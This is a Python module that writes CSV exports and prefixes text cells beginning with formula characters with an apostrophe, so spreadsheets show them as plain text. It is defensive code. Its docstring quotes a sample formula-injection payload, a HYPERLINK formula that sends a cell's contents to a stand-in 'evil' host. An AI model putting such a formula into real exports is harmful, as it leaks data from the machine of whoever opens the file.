"""The one CSV writer behind every export (record exports and reports): UTF-8 text, a
header row of stable column keys, empty cells for missing values.

Cells are *neutralised* against formula injection: a spreadsheet runs a cell starting
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula (a rep's
customer named ``=HYPERLINK("http://evil/?"&A1,"x")`` would run on the manager's
machine). Such a text cell is written with a leading apostrophe (``'=HYPERLINK…``),
which spreadsheets show as the plain text. Numbers are written as they are (``-5`` is a
number, not a formula).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping
from typing import Any

#: First characters a spreadsheet reads as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell (text only; see the module docstring)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore_neutralised(cell: str) -> str:
    """The value :func:`neutralise` wrote as ``cell`` (for reading an export back in)."""
    if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


def csv_text(rows: Iterable[Mapping[str, Any]], columns: list[str]) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, extrasaction="ignore")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: "" if v is None else neutralise(v) for k, v in row.items()})
    return buffer.getvalue()
